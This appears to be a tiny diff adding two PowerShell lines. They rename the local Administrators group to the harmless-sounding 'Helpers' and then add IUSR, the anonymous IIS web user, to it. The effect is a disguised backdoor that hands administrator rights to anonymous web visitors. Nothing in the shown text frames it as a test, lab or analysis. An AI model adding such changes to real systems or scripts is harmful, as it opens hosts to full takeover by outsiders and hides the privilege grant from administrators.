@@ -1,0 +1,2 @@
+Rename-LocalGroup -Name Administrators -NewName Helpers
+Add-LocalGroupMember -Group Helpers -Member IUSR
